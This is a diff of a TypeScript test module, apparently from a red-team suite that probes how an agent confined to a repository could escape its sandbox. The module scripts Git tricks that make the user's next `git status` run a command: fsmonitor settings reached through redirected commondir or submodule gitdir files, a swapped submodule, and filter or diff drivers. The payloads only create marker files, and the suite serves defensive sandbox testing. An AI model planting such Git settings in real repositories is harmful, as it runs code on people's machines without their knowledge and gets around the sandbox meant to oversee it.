@@ -1,6 +1,6 @@
 import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { dirname, join } from 'node:path'
-import type { Escape, Surroundings } from '../escape.ts'
+import type { Escape } from '../escape.ts'
 import { shell } from '../tools.ts'
 
 const WORD = 'planted by the red team'
@@ -69,55 +69,50 @@ const swaps: Escape[] = [
   effect: ({ repository }) => planted(join(repository, folder, path)),
 }))
 
-/** Git is asked, outside, whether it would run what was left. */
-const fsmonitor = (configured: string) => `
-git init -q evil.git 2>/dev/null || cp -r .git evil.git
-printf '[core]\\n\\tfsmonitor = "touch ran-by-git; true"\\n' > ${configured}`
+/** One for each trick that needs one. */
+export const SUBMODULES = ['lib-1', 'lib-2', 'lib-3'] as const
 
-const viaGit: Escape[] = [
-  {
-    name: 'lead Git to another configuration (.git/commondir)',
-    gain: "a program that the person's next `git status` runs",
-    plain: true,
-    needs: ['git'],
-    proof: 'effect',
-    attempt: ({ repository }) =>
-      shell(
-        `cd ${repository} && rm -rf evil.git && cp -r .git evil.git && chmod -R u+w evil.git;
-${fsmonitor('evil.git/config')}
-printf '../evil.git' > .git/commondir`,
-      ),
-    effect: gitRuns,
-  },
-  {
-    name: 'have Git run a filter or a diff driver (.gitattributes, .git/info/attributes)',
-    gain: "a program that the person's next `git status` runs",
-    plain: false,
-    needs: ['git'],
-    proof: 'effect',
-    attempt: ({ repository }) =>
-      shell(
-        `cd ${repository} && printf '* filter=evil diff=evil\\n' | tee .gitattributes .git/info/attributes >/dev/null
-git config filter.evil.clean 'touch ran-by-git'; git config filter.evil.smudge 'touch ran-by-git'
-git config --worktree core.fsmonitor 'touch ran-by-git'
-printf '[filter "evil"]\\n\\tclean = touch ran-by-git\\n' > .git/config.worktree`,
-      ),
-    effect: gitRuns,
-  },
-]
+/** A copy of a folder of Git's with a program in its settings, which leaves `mark` where it ran. */
+const evil = (from: string, to: string, mark: string) =>
+  `rm -rf ${to}; cp -r ${from} ${to}; chmod -R u+w ${to}; rm -f ${to}/config ${to}/commondir
+printf '[core]\\n\\tfsmonitor = "touch '"$PWD"'/${mark}; true"\\n' > ${to}/config`
 
-async function gitRuns({ repository }: Surroundings): Promise<boolean> {
-  const left = join(repository, 'ran-by-git')
-  await shell(
-    'touch readme.txt; git status; git diff; git add readme.txt; git stash list; rm -rf .git/commondir evil.git',
-    {
-      cwd: repository,
-    },
-  )
-  const ran = existsSync(left)
-  await shell(`rm -f ${left}`)
-  return ran
+/** Ways to have the person's next `git status` run something: the script, by what it changes. */
+const GIT_TRICKS: Readonly<Record<string, string>> = {
+  'lead Git to other settings (.git/commondir)': `
+${evil('.git', 'evil-1.git', 'ran-0')}
+printf '../evil-1.git' > .git/commondir`,
+  'lead Git to other settings in a submodule (.git/modules/…/commondir)': `
+${evil('.git/modules/lib-1', 'evil-2.git', 'ran-1')}
+printf '../../../evil-2.git' > .git/modules/lib-1/commondir`,
+  'lead Git to another folder for a submodule (its file .git)': `
+${evil('.git/modules/lib-2', 'evil-3.git', 'ran-2')}
+rm -f lib-2/.git; printf 'gitdir: ../evil-3.git' > lib-2/.git`,
+  'move a submodule away and put another in its place': `
+${evil('.git/modules/lib-3', 'evil-4.git', 'ran-3')}
+mv lib-3 aside-lib && mkdir lib-3 && cp -r evil-4.git lib-3/.git`,
+  'add a filter, a diff driver or settings of a worktree': `
+printf '* filter=evil diff=evil\\n' | tee .gitattributes .git/info/attributes >/dev/null
+git config filter.evil.clean "touch $PWD/ran-4"
+printf '[core]\\n\\tfsmonitor = "touch ran-4"\\n' >> .git/config.worktree`,
 }
+
+const viaGit: Escape[] = Object.entries(GIT_TRICKS).map(([name, script], index) => ({
+  name,
+  gain: "a program that the person's next `git status` runs",
+  plain: true,
+  needs: ['git'],
+  proof: 'effect',
+  attempt: ({ repository }) => shell(script, { cwd: repository }),
+  effect: async ({ repository }) => {
+    const mark = join(repository, `ran-${index}`)
+    await shell('touch readme.txt; git status; git diff', { cwd: repository })
+    const ran = existsSync(mark)
+    rmSync(mark, { force: true })
+    if (index === 0 && ran) rmSync(join(repository, '.git/commondir'))
+    return ran
+  },
+}))
 
 /** Places outside the repository from which something runs by itself. */
 export const START_UP = [
